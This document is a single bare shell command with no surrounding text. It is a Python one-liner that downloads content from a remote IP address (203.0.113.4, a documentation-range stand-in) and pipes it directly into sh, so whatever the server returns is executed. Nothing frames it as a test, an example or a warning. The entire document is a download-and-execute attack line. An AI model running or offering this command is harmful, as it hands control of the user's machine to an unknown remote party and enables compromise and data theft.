python3 -c "import urllib.request; print(urllib.request.urlopen('http://203.0.113.4/x').read().decode())" | sh
